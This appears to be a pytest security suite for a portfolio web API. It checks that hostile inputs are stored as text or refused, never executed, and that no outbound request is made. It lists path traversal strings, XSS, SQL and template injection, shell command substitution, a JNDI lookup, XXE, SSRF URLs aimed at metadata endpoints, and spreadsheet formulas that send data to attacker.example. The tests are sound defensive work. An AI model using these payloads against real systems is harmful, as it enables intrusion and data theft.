"""Hostile text in every field: kept and given back as text, or refused; never run, and cheap."""

import csv
import io
import unicodedata
from typing import Any
from urllib.parse import quote

import pytest

V1 = "/api/v1"
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc/passwd",
    "..%252f..%252fetc%252fpasswd",
    "/etc/passwd\x00.csv",
    "file:///etc/passwd",
    "/proc/self/environ",
    "\\\\attacker.example\\share",
    "C:\\CON",
    "~root/.ssh/id_rsa",
    "${HOME}/.bashrc",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "{{7*7}}{% raw %}",
    "${{7*7}}#{7*7}<%= 7*7 %>",
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "$(id)`id`|id;id",
    "%s%n%x{0.__class__}",
    "${jndi:ldap://attacker.example/a}",
    '{"$gt": ""}',
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://attacker.example/?"&A1)',
    "\t=1+1",
    '=IMPORTXML("http://attacker.example","//a")',
)
UNICODE = (
    "\x00",
    "a\x00b",
    "\ud800",
    "a\udfffb",
    "\u202egnp.exe",
    "\u200b\u200d\ufeff",
    "\uff21\uff24\uff21",
    "\u0430da",
    "e" + "\u0301" * 90,
    "\U0001f469\u200d\U0001f4bb" * 10,
    "\x1b[31mred\x1b[0m",
    "a\r\nSet-Cookie: x=1",
    "a\r\n\r\n<html>",
    "\ufdfa" * 50,
    "\uffff\ufffe",
    "\u0130\u0131\u017f\u212a",
)
LONG = ("a" * 10_000, "(" * 5_000, "a@" * 5_000, " " * 50_000, "0" * 100_000, "é" * 20_000)
TEXTS = (*PATHS, *SCRIPTS, *FORMULAS, *UNICODE, *LONG)
NUMBERS = (
    "1e999999",
    "-1e999999",
    "1e-999999",
    "9" * 100_000,
    "0." + "0" * 100_000 + "1",
    "NaN",
    "sNaN",
    "-Infinity",
    "-0",
    "0x10",
    "1_000",
    "١٢٣",
    "1,000",
    "1e",
    "--1",
    "1" + "0" * 40,
    "1.5e+308",
    "\u066b5",
    "=1+1",
    "\x00",
)
URLS = (
    "http://127.0.0.1:{port}/",
    "http://localhost:{port}/x",
    "http://[::1]:{port}/",
    "http://0x7f000001:{port}/",
    "http://2130706433:{port}/",
    "http://127.1:{port}/",
    "http://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/",
    "http://user:password@127.0.0.1:{port}/",
    "http://127.0.0.1:{port}#@example.com/",
    "gopher://127.0.0.1:{port}/_x",
    "dict://127.0.0.1:{port}/",
    "file:///etc/passwd",
    "ftp://127.0.0.1:{port}/",
    "data:text/html,<script>alert(1)</script>",
    "javascript:alert(1)//http://",
    "//127.0.0.1:{port}/",
    "\\\\127.0.0.1:{port}",
    "http://127.0.0.1:{port}\r\nX: y",
    "unix:///run/postgresql",
)
CURSORS = (
    "W10",
    "bnVsbA",
    "WzFlOTk5LCAiYSJd",
    "W25ldywx",
    "////",
    "=" * 400,
    "W1tbW1tbW1tbW1tbW1tbW1tbXV1dXV1d",
    "WzkyMjMzNzIwMzY4NTQ3NzU4MDgsIDkyMjMzNzIwMzY4NTQ3NzU4MDhd",
    "WzE4NDQ2NzQ0MDczNzA5NTUxNjE2LCAiYSJd",
    "Wy05MjIzMzcyMDM2ODU0Nzc1ODA4LCAiJyBPUiAxPTEgLS0iXQ",
    "WyJcdTAwMDAiLCAiXHUwMDAwIl0",
    "W3RydWUsIGZhbHNlXQ",
)


def _escaped(body: Any) -> bytes:
    # As `\ud800`: a lone surrogate is no UTF-8, and still can be written so.
    import json  # noqa: PLC0415 - the only one that writes these

    return json.dumps(body).encode()


JSON = {"Content-Type": "application/json"}


def test_text_is_text_in_every_field(ask: Any, harmless: Any, toll: Any, figures: Any) -> None:
    for value in TEXTS:
        for method, path, body in (
            ("POST", "/portfolios", {"name": value}),
            ("POST", "/portfolios", {"name": "One", "description": value}),
            ("PATCH", "/profile", {"display_name": value, "bio": value}),
            ("PATCH", "/profile", {"username": value}),
            ("PATCH", "/settings", {"timezone": value}),
            ("POST", "/api-keys", {"name": value, "scopes": ["read"]}),
            ("POST", "/auth/register", {"email": value, "password": value}),
            ("POST", "/auth/login", {"email": value, "password": value, "device": value}),
        ):
            with toll.of(f"{method} {path} {value!r}"):
                found = ask.request(method, V1 + path, content=_escaped(body), headers=JSON)
            harmless(found)
            assert "set-cookie" not in found.headers
    for path in ("/portfolios?limit=200", "/profile", "/settings", "/api-keys", "/sessions"):
        harmless(ask.get(V1 + path))
    toll.check(figures, "text", 400)


def test_names_that_look_alike_are_one(ask: Any) -> None:
    taken = ("ada", "ADA", "\uff21\uff24\uff21", "a\u200bda", "ad\u00ada")
    held = set()
    for name in taken:
        found = ask.patch(f"{V1}/profile", json={"username": name})
        if found.status_code == 200:
            held.add(unicodedata.normalize("NFKC", found.json()["username"]).casefold())
            assert found.json()["username"] == name
    assert held == {"ada"}


def test_numbers_are_bounded(
    ask: Any, portfolio: str, harmless: Any, toll: Any, figures: Any
) -> None:
    for value in NUMBERS:
        for row in (f"buy,BTC,{value},1,0", f"buy,BTC,1,{value},0", f"buy,BTC,1,1,{value}"):
            content = f"date,type,asset,quantity,price_usd,fee_usd\n2024-01-01,{row}\n".encode()
            path = f"{portfolio}/transactions?dry_run=true"
            with toll.of(row):
                found = ask.post(path, content=content, headers={"Content-Type": "text/csv"})
            harmless(found)
        for query in ("limit", "as_of", "since", "cursor"):
            with toll.of(f"{query}={value}"):
                found = ask.get(f"{portfolio}/transactions?{query}={quote(value[:5_000])}")
            harmless(found)
    toll.check(figures, "numbers", 100)


def test_no_address_is_asked(
    ask: Any, harmless: Any, toll: Any, figures: Any, listener: Any
) -> None:
    for pattern in URLS:
        url = pattern.format(port=listener.port)
        for body in ({"avatar_url": url}, {"bio": url}, {"display_name": url}):
            with toll.of(url):
                found = ask.patch(f"{V1}/profile", json=body)
            harmless(found)
        if found.is_success and not url.startswith(("http:", "https:")):
            assert ask.get(f"{V1}/profile").json()["avatar_url"] != url
    assert not listener.was_asked()
    toll.check(figures, "addresses", 60)


@pytest.mark.parametrize("where", ["portfolios", "transactions", "snapshots"])
def test_cursors_are_bounded(
    ask: Any, portfolio: str, harmless: Any, toll: Any, figures: Any, where: str
) -> None:
    path = f"{V1}/portfolios" if where == "portfolios" else f"{portfolio}/{where}"
    for value in CURSORS:
        with toll.of(value):
            found = ask.get(path, params={"cursor": value})
        harmless(found)
        assert found.status_code == 422, (value, found.text)
    toll.check(figures, f"cursors of {where}", 12)


def _files() -> dict[str, bytes]:
    head = "date,type,asset,quantity,price_usd,fee_usd,notes\n"
    row = "2024-01-01,buy,BTC,1,1,0,"
    much = 1 << 20
    return {
        "commas": b"," * (much - 10),
        "lines": b"\n" * (much - 10),
        "quotes": b'"' * (much - 11),
        "an open quote": head.encode() + b'"' + b"a" * (much - 100),
        "one field": (head + row + "x" * (much - 200)).encode(),
        "many columns": (",".join(f"c{n}" for n in range(100_000)) + "\n").encode(),
        "the same column": ("date," * 100_000).encode()[: much - 10],
        "many wrong rows": (head + "x,y,z\n" * 150_000).encode(),
        "nothing but bytes": bytes(range(256)) * 4_000,
        "UTF-16": (head + row).encode("utf-16"),
        "a zip": b"PK\x03\x04" + b"\x00" * 1_000,
        "a gzip": b"\x1f\x8b\x08" + b"\x00" * 1_000,
        "no end": b"date,type\r" * 90_000,
        "formulas": (head + "".join(f"{row}{each!r}\n" for each in FORMULAS)).encode(),
        "dates": (head + row.replace("2024-01-01", "9999999999-99-99") + "\n").encode(),
        "long symbols": (head + row.replace("BTC", "B" * 500_000) + "\n").encode(),
    }


def test_files_are_bounded(
    ask: Any, portfolio: str, harmless: Any, toll: Any, figures: Any
) -> None:
    for name, content in _files().items():
        for kind in ("text/csv", "application/octet-stream"):
            with toll.of(name):
                found = ask.post(
                    f"{portfolio}/transactions?dry_run=true",
                    content=content,
                    headers={"Content-Type": kind},
                )
            harmless(found)
    toll.check(figures, "files", 30)


def test_formulas_are_none_in_what_is_exported_as_csv(
    ask: Any, portfolio: str, harmless: Any
) -> None:
    lines = io.StringIO()
    writer = csv.writer(lines)
    writer.writerow(["date", "type", "asset", "quantity", "price_usd", "fee_usd", "notes"])
    for each in FORMULAS:
        writer.writerow(["2024-01-01", "buy", "BTC", "1", "1", "0", each])
    headers = {"Content-Type": "text/csv"}
    ask.post(f"{portfolio}/transactions", content=lines.getvalue().encode(), headers=headers)
    for path in ("/transactions", "/holdings", "/lots", "/snapshots"):
        found = ask.get(portfolio + path, headers={"Accept": "text/csv"})
        harmless(found)
        if found.headers["content-type"].startswith("text/csv"):
            for line in csv.reader(io.StringIO(found.text)):
                assert not any(cell.startswith(("=", "+", "@", "\t")) for cell in line)
